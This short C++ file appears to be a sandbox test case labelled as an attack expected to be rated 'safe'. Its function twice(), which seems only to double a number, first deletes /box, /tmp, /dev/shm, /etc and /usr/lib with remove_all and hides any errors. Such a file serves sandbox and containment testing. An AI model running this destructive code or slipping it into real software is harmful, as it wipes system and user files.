// attack: removes every file that it may
// exercise: 02
// gets: safe
#include "attacked.hpp"

#include <filesystem>
#include <system_error>

namespace lab::attacked {

int twice(int number) {
    std::error_code refused;
    for (const char* folder : {"/box", "/box/out", "/tmp", "/dev/shm", "/etc", "/usr/lib"}) {
        std::filesystem::remove_all(folder, refused);
    }
    return 2 * number;
}

} // namespace lab::attacked

#include "parts/file.cpp"
